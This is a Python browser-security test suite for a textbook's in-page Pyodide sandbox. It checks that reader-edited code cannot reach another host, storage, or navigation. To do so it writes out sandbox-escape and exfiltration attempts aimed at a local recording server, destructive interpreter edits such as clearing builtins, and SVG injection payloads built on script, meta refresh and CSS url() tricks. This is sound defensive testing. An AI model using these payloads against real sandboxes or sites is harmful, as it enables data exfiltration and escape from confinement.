"""A reader's Python can access neither another host nor the browser's storage."""

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser
from support.engines import window
from support.static_server import StaticServer

pytestmark = pytest.mark.browser

CHAPTER = "lens-distortion/"
OPEN = (b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/javascript\r\n"
        b"Content-Length: 0\r\nConnection: close\r\n\r\n")  # fmt: skip


class OtherHost:
    """Another host, which lets every page read its replies, and records requests."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self.socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:  # closed
                return
            with connection:
                self.received.append(connection.recv(1000))
                connection.sendall(OPEN)

    def requests(self) -> list[bytes]:
        """All requests before this call, which are then forgotten."""
        with socket.create_connection(self.socket.getsockname()) as last:
            last.sendall(b"last")
            last.recv(1)
        received, self.received = self.received[:-1], []
        return received


@pytest.fixture
def other_host() -> Iterator[OtherHost]:
    host = OtherHost()
    yield host
    host.socket.close()


BROWSERS = [
    "Chromium",
    *(pytest.param(name, marks=pytest.mark.deep) for name in ("Firefox", "WebKitGTK")),
]

WAYS = """(address) => {
  const url = `http://${address}/secret`;
  const loads = (thing) => new Promise((resolve) => { thing.onerror = thing.onopen = resolve; });
  const xhr = new XMLHttpRequest();
  const inner = `fetch("${url}").catch(() => {}).then(() => postMessage(""))`;
  return [
    () => fetch(url),
    () => fetch(url, {method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true}),
    () => import(url),
    () => { xhr.open('GET', url, false); xhr.send(); },
    () => loads(new WebSocket(`ws://${address}/secret`)),
    () => loads(new EventSource(url)),
    () => loads(new Worker(url)),
    () => new Promise((resolve) => {
      const nested = new Worker(URL.createObjectURL(new Blob([inner])));
      nested.onmessage = nested.onerror = resolve;
    }),
    () => importScripts(url),
    () => new FontFace('secret', `url(${url})`).load(),
    () => caches.open('secret').then((cache) => cache.add(url)),
    () => (0, eval)(`import('${url}')`),
  ];
}"""
"""Ways by which a worker's script could reach another host."""
FROM_A_BLOB = f"""async (address) => {{
  const source = `({{}}).constructor; const ways = ({WAYS.replace("`", "\\`").replace("$", "\\$")})
    ("${{address}}");
    Promise.allSettled(ways.map(async (way) => way())).then(() => postMessage('tried'));`;
  const worker = new Worker(URL.createObjectURL(new Blob([source], {{type: 'text/javascript'}})));
  return new Promise((resolve, reject) => {{
    worker.onmessage = ({{data}}) => resolve(data);
    worker.onerror = ({{message}}) => reject(new Error(message));
  }});
}}"""


@pytest.mark.parametrize("name", ["Chromium", "Firefox", "WebKitGTK"])
def test_policy_of_a_page_keeps_blob_workers_from_other_hosts(
    name: str, chromium: Browser, site_server: StaticServer, other_host: OtherHost, tmp_path: Path
) -> None:
    with window(name, chromium, tmp_path) as tab:
        tab.open(f"{site_server.url}licences/")
        assert tab.evaluate(FROM_A_BLOB, other_host.address) == "tried"
    assert other_host.requests() == []


HIDDEN = (
    "fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport importScripts"
    " indexedDB IDBFactory caches CacheStorage BroadcastChannel navigator sendBeacon cookieStore"
    " Worker SharedWorker MessageChannel MessagePort postMessage onmessage addEventListener"
    " dispatchEvent FontFace fonts eval setTimeout setInterval close location origin"
    " webkitRequestFileSystem webkitRequestFileSystemSync Request Response URL Blob"
)
EDIT = f"""def _encoded(photo):
    import js, pyodide_js
    from pyodide.code import run_js
    from pyodide.ffi import JsProxy
    address = "ADDRESS"
    url = f"http://{{address}}/secret"
    ways = [
        lambda: js.fetch(url),
        lambda: js.XMLHttpRequest.new().open("GET", url),
        lambda: run_js(f"import('{{url}}')"),
        lambda: js.Object.constructor(f"import('{{url}}')")(),
        lambda: js.Function.new(f"import('{{url}}')")(),
        lambda: pyodide_js.loadPackage(url),
        lambda: js.WebSocket.new(f"ws://{{address}}/secret"),
        lambda: js.postMessage(None),
        lambda: js.indexedDB.databases(),
        lambda: js.navigator.storage.getDirectory(),
        lambda: __import__("sys").meta_path[-1]._fetch(f"../../../{{address}}/secret"),
    ]
    for way in ways:
        try:
            way()
        except Exception:
            pass
    seen, queue, found = js.Set.new(), [js.globalThis], []
    while queue:
        thing = queue.pop()
        if seen.has(thing) or js.ArrayBuffer.isView(thing):
            continue
        seen.add(thing)
        for name in js.Object.getOwnPropertyNames(thing):
            try:
                about = js.Object.getOwnPropertyDescriptor(thing, name)
                parts = [getattr(about, part, None) for part in ("value", "get", "set")]
            except Exception:  # a prototype that is no object of its kind
                continue
            parts = [part for part in parts if isinstance(part, JsProxy)]
            found += [name] if parts and name in {HIDDEN.split()!r} else []
            queue += parts
    natives = [(js.Array, js.Symbol.iterator), (js.RegExp, "exec"), (js.Promise, "then"),
        (js.Map, "get"), (js.Object, "chunk"), (js.String, "slice")]
    replaced = [js.Reflect.set(of.prototype, key, js.Math.abs) for of, key in natives]
    replaced += [js.Reflect.set(js, name, None) for name in ("Array", "Uint8Array", "Promise")]
    print("found:", found, seen.size > 300, any(replaced))
    return opaque(encode_srgb_codes(photo.linear))
"""
IMPORTS = """def _encoded(photo):
    import numpy.random, wave
    print(numpy.random.default_rng(1).integers(8, 9))
    return opaque(encode_srgb_codes(photo.linear))
"""
"""Imports that no scene has."""
REQUESTED = """() => performance.getEntriesByType('resource')
  .some(({name}) => name.endsWith('/numpy-random.zip'))"""
RUN = """async (...sources) => {
  const {internals} = await customElements.whenDefined('simulation-figure');
  const {Runtime, startConfinedWorker} = internals;
  const address = new URL(document.body.dataset.runtime, location.href).href;
  const runtime = new Runtime(address, () => ['lens-distortion'], startConfinedWorker);
  const frame = {figure: 'figure-x', scene: 'lens-distortion', values: '{}', tier: ''};
  const results = [];
  for (const source of sources) {
    const edits = JSON.stringify({'simulations.scenes.lens_distortion.stages:_encoded': source});
    results.push(await runtime.call('render_edited', {...frame, edits})
      .then(({problem, printed}) => [problem, printed], ({message}) => [message, '']));
  }
  await runtime.call('forget', {figure: 'figure-x'}); // everything begun before has finished
  return results;
}"""


@pytest.mark.parametrize("name", BROWSERS)
def test_edited_python_finds_no_way_to_another_host_or_to_storage(
    name: str, chromium: Browser, site_server: StaticServer, other_host: OtherHost, tmp_path: Path
) -> None:
    with window(name, chromium, tmp_path) as tab:
        tab.open(site_server.url + CHAPTER)
        attack = EDIT.replace("ADDRESS", other_host.address)
        (problem, printed), fetched = tab.evaluate(RUN, attack, IMPORTS)
        requested = tab.evaluate(REQUESTED)
    assert problem is None, json.dumps(problem)
    assert printed == "found: [] True False\n"
    assert fetched == [None, "8\n"]
    assert requested, "by the page, for a worker that may fetch nothing"
    assert other_host.requests() == []


HARMS = (
    "import builtins; builtins.len = None; builtins.__import__ = None; builtins.isinstance = str",
    "import builtins; vars(builtins).clear()",
    "import numpy; numpy.sum = numpy.asarray = numpy.pi = None",
    "import json, math; math.sin = json.dumps = json.loads = None",
    "import sys; sys.stdout = None; sys.modules.clear(); sys.meta_path.clear()",
    "import simulations.engine.frame as frame; frame.to_json = None; frame.len = None",
    "import simulations.browser as browser; browser._reply = browser._request = None",
    "from simulations.engine.scene import Scene; Scene.render = Scene.clamp = None",
    "import json; json.JSONEncoder.encode = None; json.JSONDecoder.decode = None",
    "import sys; sys.setrecursionlimit(50); raise SystemExit",
    "import os; os._exit(0)",
    "import gc; [found.clear() for found in gc.get_objects() if type(found) is dict]",
    "raise ValueError('\\x1b[31m' + 20_000_000 * 'x')",
)


@pytest.mark.parametrize("harms", [HARMS[1::5], pytest.param(HARMS, marks=pytest.mark.deep)])
def test_damage_by_an_edit_is_undone_before_the_next(
    chromium: Browser, site_server: StaticServer, tmp_path: Path, harms: tuple[str, ...]
) -> None:
    draw = "def _encoded(photo):\n    {}\n    return opaque(encode_srgb_codes(photo.linear))\n"
    sources = [draw.format(body) for n, harm in enumerate(harms) for body in (harm, f"print({n})")]
    with window("Chromium", chromium, tmp_path) as tab:
        tab.open(site_server.url + CHAPTER)
        results = tab.evaluate(RUN, *sources)
    assert results[1::2] == [[None, f"{n}\n"] for n in range(len(harms))]
    assert all(
        len(json.dumps(problem)) < 3000 and "x1b" not in str(problem) for problem, _ in results
    )


WITH_ADDRESSES = ("fill", "stroke", "style", "filter", "mask", "clip-path", "cursor", "transform")
DRAWINGS = (
    "<foreignObject><meta http-equiv='refresh' content='0;url=URL'/></foreignObject>",
    "<title><meta http-equiv='refresh' content='0;url=URL'/></title>",
    "<desc><link rel='preconnect' href='URL'/><img src='URL'/></desc>",
    "<p><link rel='preconnect' href='URL'/></p>",
    "<a href='URL'><text>here</text></a><use href='URL#a'/><image xlink:href='URL'/>",
    "<image href='#a'><set attributeName='href' to='URL'/></image>",
    "<text tabindex='0' autofocus='' onfocus='fetch(\"URL\")'>here</text>",
    "<script>fetch('URL')</script>",
    "<style>body { visibility: hidden }</style><g id='a'><text>x</text></g><use href='#a'/>",
    "<pattern id='p'><rect fill='url(#q)'/></pattern><mask id='m'><g mask='url(#m)'/></mask>",
    "<image href='data:image/svg+xml,&lt;svg&gt;&lt;use href=&quot;#a&quot;/&gt;&lt;/svg&gt;'/>",
    *(
        f"<rect {name}='{value}'/>"
        for name in WITH_ADDRESSES
        for value in ("url(URL)", "Url(#p)", "u\\72 l(URL)", 'src("URL")', "var(--p)")
    ),
    "<rect style='background-image: image-set(\"URL\" 1x); --p: url(URL)' id='main'/>",
    "<g></g>" * 20_001,
)
DRAWN = """async (drawings) => {
  const {Overlay} = (await customElements.whenDefined('simulation-figure')).internals;
  const svg = document.querySelector('svg.overlay');
  const overlay = new Overlay(svg);
  return drawings.map((drawing) => {
    overlay.show(drawing);
    return [...svg.querySelectorAll('*')].flatMap((element) => [
      ...(element.matches('style, pattern, mask') ? [element.localName] : []),
      ...(element.namespaceURI === svg.namespaceURI ? [] : [element.localName]),
      ...element.getAttributeNames(),
    ]).concat(svg.querySelectorAll('*').length > 20_000 ? ['too many'] : []);
  });
}"""


@pytest.mark.parametrize("name", BROWSERS)
def test_drawing_by_edited_python_cannot_navigate_or_send_requests(
    name: str, chromium: Browser, site_server: StaticServer, other_host: OtherHost, tmp_path: Path
) -> None:
    drawings = [each.replace("URL", f"http://{other_host.address}/secret") for each in DRAWINGS]
    with window(name, chromium, tmp_path) as tab:
        tab.open(site_server.url + CHAPTER)
        assert tab.evaluate(DRAWN, drawings) == [[] for _ in DRAWINGS]
        assert tab.evaluate("() => location.href").endswith(CHAPTER)
    assert other_host.requests() == []
